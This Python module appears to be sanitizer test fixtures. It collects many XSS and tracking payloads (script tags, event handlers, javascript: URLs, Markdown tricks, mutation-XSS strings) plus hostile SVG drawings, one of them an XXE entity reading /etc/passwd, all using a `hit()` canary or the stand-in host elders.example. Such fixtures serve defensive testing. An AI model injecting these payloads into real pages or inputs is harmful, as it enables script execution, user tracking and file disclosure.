"""What somebody could write in a field to run a script at a reader's, or to have them followed.

Each calls `hit()` where it works, or asks `elders.example`. They are shapes, by class: the same few
ideas in other tags, attributes, addresses and encodings.
"""

from __future__ import annotations

__all__ = ["DRAWINGS", "PAYLOADS"]

_TAGS = (
    "<script>hit()</script>",
    "<SCRIPT >hit()</SCRIPT >",
    "<script/x>hit()</script>",
    '<script src="https://elders.example/x.js"></script>',
    '<script src="//elders.example/x.js"></script>',
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script>hit()",
    "<<script>hit()//<</script>",
    '<iframe src="javascript:hit()"></iframe>',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    '<object data="https://elders.example/x.swf"></object>',
    '<object data="data:text/html,<script>parent.hit()</script>"></object>',
    '<embed src="https://elders.example/x.swf">',
    '<form action="javascript:hit()"><button>x</button></form>',
    '<form id=f></form><button form=f formaction="javascript:hit()">x</button>',
    '<input autofocus onfocus="hit()">',
    '<base href="https://elders.example/">',
    '<meta http-equiv="refresh" content="0;url=https://elders.example/">',
    '<link rel="stylesheet" href="https://elders.example/x.css">',
    '<link rel="prefetch" href="https://elders.example/x">',
    "<style>@import 'https://elders.example/x.css';</style>",
    "<style>body{background:url(https://elders.example/x)}</style>",
    '<video poster="https://elders.example/x"><source onerror="hit()"></video>',
    '<audio src="https://elders.example/x" onerror="hit()"></audio>',
    '<picture><source srcset="https://elders.example/x"><img src="x" onerror="hit()"></picture>',
    '<portal src="https://elders.example/"></portal>',
    '<applet code="x" onerror="hit()"></applet>',
    '<frameset onload="hit()"><frame src="javascript:hit()"></frameset>',
    '<dialog open onclose="hit()"><form method=dialog><button>x</button></form></dialog>',
    '<template shadowrootmode="open"><script>hit()</script></template>',
    "<noembed><img src=x onerror=hit()></noembed>",
    "<xmp><img src=x onerror=hit()></xmp>",
    "<plaintext><img src=x onerror=hit()>",
)
_ATTRIBUTES = (
    "<img src=x onerror=hit()>",
    '<img src="x" onerror="hit()" />',
    "<img src=x onerror=&#104;it()>",
    "<img/src=x/onerror=hit()>",
    "<img src=x:x onerror=hit()//",
    '<img """><script>hit()</script>">',
    "<img src='x'onerror=hit()>",
    "<img src=`x`onerror=hit()>",
    '<img src="https://elders.example/x">',
    '<img src="//elders.example/x">',
    '<img src="/\\elders.example/x">',
    '<img src="\\\\elders.example/x">',
    '<img src="http:elders.example/x">',
    '<img src="ht\ttps://elders.example/x">',
    '<img src="x" srcset="https://elders.example/x 2x">',
    '<img alt="a > b" src="https://elders.example/x">',
    "<img src='https://elders.example/x' alt='\"'>",
    '<img lowsrc="https://elders.example/x" dynsrc="https://elders.example/x">',
    '<b onmouseover="hit()">x</b>',
    "<b onclick=hit()>x</b>",
    '<details open ontoggle="hit()"><summary>x</summary></details>',
    '<p onpointerenter="hit()" tabindex="0" onfocus="hit()">x</p>',
    '<a onmouseover="hit()" href="#x">x</a>',
    '<div style="background:url(https://elders.example/x)">x</div>',
    '<p style="animation-name:x" onanimationstart="hit()">x</p>',
    '<table background="//elders.example/x"><tr><td background="//elders.example/x">x</table>',
    '<blockquote cite="javascript:hit()">x</blockquote>',
    '<q cite="https://elders.example/x">x</q>',
    '" onmouseover="hit()" x="',
    "' onmouseover='hit()' x='",
    '"><script>hit()</script>',
    "'><img src=x onerror=hit()>",
    "</title><script>hit()</script>",
    "</p></div></main><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    '</script><script>hit()</script>{"@context":"x"}',
    "`><img src=x onerror=hit()>",
)
_ADDRESSES = (
    '<a href="javascript:hit()">x</a>',
    '<a href="JaVaScRiPt:hit()">x</a>',
    '<a href=" javascript:hit()">x</a>',
    '<a href="java\tscript:hit()">x</a>',
    '<a href="java&#10;script:hit()">x</a>',
    '<a href="&#106;avascript:hit()">x</a>',
    '<a href="&#x6A;avascript&colon;hit()">x</a>',
    '<a href="\x01javascript:hit()">x</a>',
    '<a href="vbscript:hit()">x</a>',
    '<a href="data:text/html,<script>hit()</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://elders.example/x">x</a>',
    '<a href="view-source:javascript:hit()">x</a>',
    '<a href="x" ping="https://elders.example/x">x</a>',
    '<a href="javascript:hit()" target="_blank" rel="opener">x</a>',
)
_MARKDOWN = (
    "[x](javascript:hit())",
    "[x](JAVASCRIPT:hit())",
    "[x](<javascript:hit()>)",
    "[x](javascript&#58;hit())",
    "[x](&#106;avascript:hit())",
    "[x](data:text/html,hit)",
    "[x](vbscript:hit())",
    '[x](/ "onmouseover=hit()")',
    "[x](/ 'x\" onmouseover=\"hit()')",
    "[x][1]\n\n[1]: javascript:hit()",
    "<javascript:hit()>",
    "![x](https://elders.example/x.png)",
    "![x](//elders.example/x.png)",
    "![x](http:elders.example/x.png)",
    "![x](/\\elders.example/x.png)",
    "![x](javascript:hit())",
    "![x](data:image/svg+xml,<svg/onload=hit()>)",
    "![a > b](https://elders.example/x.png)",
    '![x" onerror="hit()](x.png)',
    "![x](x.png){: onerror=hit() }",
    "![x][1]\n\n[1]: https://elders.example/x.png",
    "[![x](https://elders.example/x.png)](/)",
    "x\n{: onclick=hit() onmouseover=hit() tabindex=0 onfocus=hit() autofocus=x }",
    "# x {: style=background:url(https://elders.example/x) }",
    "*x*{: onclick=hit() }",
    "| x |\n| - |\n| <img src=x onerror=hit()> |",
    "x[^1]\n\n[^1]: <script>hit()</script>",
    '!!! note "<img src=x onerror=hit()>"\n    x',
    "`<script>hit()</script>`",
    "    <script>hit()</script>",
    "Term\n:   <img src=x onerror=hit()>",
    '<div markdown="1"><script>hit()</script></div>',
    "<!-- --!><img src=x onerror=hit()> -->",
    "<?php echo '<script>hit()</script>' ?>",
    "<![CDATA[<script>hit()</script>]]>",
    '[x](https://www.dorp.example/"onmouseover="hit())',
)
_CONFUSION = (
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    '<svg><script href="https://elders.example/x.js"/></svg>',
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:hit()"><text y="9">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>hit()</script></svg>#x"/></svg>',
    '<svg><image href="https://elders.example/x"/></svg>',
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style>",
    '<math><a xlink:href="javascript:hit()">x</a></math>',
    (
        '<math><mtext><option><FAKE><table><mglyph><svg><mtext><style><a title="</style>'
        '<img src=x onerror=hit()>"></style></mtext>'
    ),
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    '<textarea><p title="</textarea><img src=x onerror=hit()>">',
    '<title><p title="</title><img src=x onerror=hit()>">',
    "<template><img src=x onerror=hit()></template>",
    "<select><style></select><img src=x onerror=hit()></style>",
    "<svg><desc><![CDATA[</desc><script>hit()</script>]]></svg>",
    "<p><svg><title><p><img src=x onerror=hit()></title></svg>",
    '<xss style="behavior:url(https://elders.example/x.htc)">x</xss>',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit()</x:script>",
    "\u2028<script>hit()</script>",
    "\ufeff<script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "\ue0000\ue001<script>hit()</script>\ue0020\ue003",
    "&#57344;0&#57345;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\<script>hit()\\</script>",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=hit() )//%0D%0A//</stYle/</titLe/"
        "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hit()//>\\x3e"
    ),
)
PAYLOADS = tuple(dict.fromkeys((*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_MARKDOWN, *_CONFUSION)))

_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_SHAPE = '<path d="M0 0h9v9z"/>'
_INSIDE = (
    "<script>hit()</script>",
    "<script><![CDATA[hit()]]></script>",
    '<script href="https://elders.example/x.js"/>',
    '<script xlink:href="data:text/javascript,hit()"/>',
    '<x:script xmlns:x="http://www.w3.org/2000/svg">hit()</x:script>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">hit()</h:script>',
    '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="hit()"/>',
    '<g onload="hit()"/><rect width="9" height="9" onclick="hit()" onmouseover="hit()"/>',
    '<animate attributeName="x" dur="1s" onbegin="hit()"/>',
    '<set attributeName="onmouseover" to="hit()"/>',
    '<a id="a"><text y="9">x</text><animate attributeName="href" to="javascript:hit()"/></a>',
    '<a href="javascript:hit()"><text y="9">x</text></a>',
    '<a xlink:href="data:text/html,x"><text y="9">x</text></a>',
    '<use href="https://elders.example/x.svg#a"/>',
    '<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
    '<image href="https://elders.example/x.png" width="9" height="9"/>',
    '<image xlink:href="//elders.example/x.png" width="9" height="9"/>',
    (
        '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml"'
        ' src="javascript:parent.hit()"/></foreignObject>'
    ),
    '<style>@import "https://elders.example/x.css";</style>',
    "<style>path{fill:url(https://elders.example/x.svg#a)}</style>",
    (
        "<style>@font-face{font-family:x;src:url(https://elders.example/x.woff2)}"
        "text{font-family:x}</style><text y='9'>x</text>"
    ),
    "<style>path{fill:u\\72l(https://elders.example/x.svg#a)}</style>",
    '<path d="M0 0h9" style="fill:url(https://elders.example/x.svg#a)"/>',
    '<path d="M0 0h9" style="fill:url( &quot;https://elders.example/x.svg#a&quot; )"/>',
    '<path d="M0 0h9" fill="url(https://elders.example/x.svg#a)"/>',
    '<path d="M0 0h9" filter="url(//elders.example/x.svg#a)" mask="URL(//elders.example/m)"/>',
    (
        '<filter id="f"><feImage href="https://elders.example/x.png"/></filter>'
        '<path d="M0 0h9" filter="url(#f)"/>'
    ),
    '<path d="M0 0h9" cursor="url(https://elders.example/x.cur),auto"/>',
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit()</handler>',
    '<metadata><script xmlns="http://www.w3.org/2000/svg">hit()</script></metadata>',
    '<title><script>hit()</script></title><desc onclick="hit()">x</desc>',
    "<switch><foreignObject><script>hit()</script></foreignObject></switch>",
    '<discard onbegin="hit()"/><mpath href="https://elders.example/x#a"/>',
    '<text y="9">&lt;script&gt;hit()&lt;/script&gt;</text>',
    '<linearGradient id="g" href="https://elders.example/x.svg#g"/>',
    '<tref xlink:href="https://elders.example/x.svg#t"/>',
    '<cursor xlink:href="//elders.example/x.png"/><video src="https://elders.example/x"/>',
)
_WHOLE = (
    f'<svg {_NS} onload="hit()">{_SHAPE}</svg>',
    f'<?xml-stylesheet href="https://elders.example/x.css"?><svg {_NS}>{_SHAPE}</svg>',
    f'<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><svg {_NS}>{_SHAPE}</svg>',
    (
        f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://elders.example/x.dtd">'
        f"<svg {_NS}>{_SHAPE}</svg>"
    ),
    (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {_NS}>{_SHAPE}'
        "<text>&x;</text></svg>"
    ),
    f"<!DOCTYPE svg [<!ENTITY x '<script>hit()</script>'>]><svg {_NS}>{_SHAPE}&x;</svg>",
    f'<!DOCTYPE svg [<!ATTLIST path onload CDATA "hit()">]><svg {_NS}>{_SHAPE}</svg>',
)
DRAWINGS = (*(f"<svg {_NS}>{_SHAPE}{inside}</svg>" for inside in _INSIDE), *_WHOLE)
"""The same for files of the media: drawings that do more than draw."""
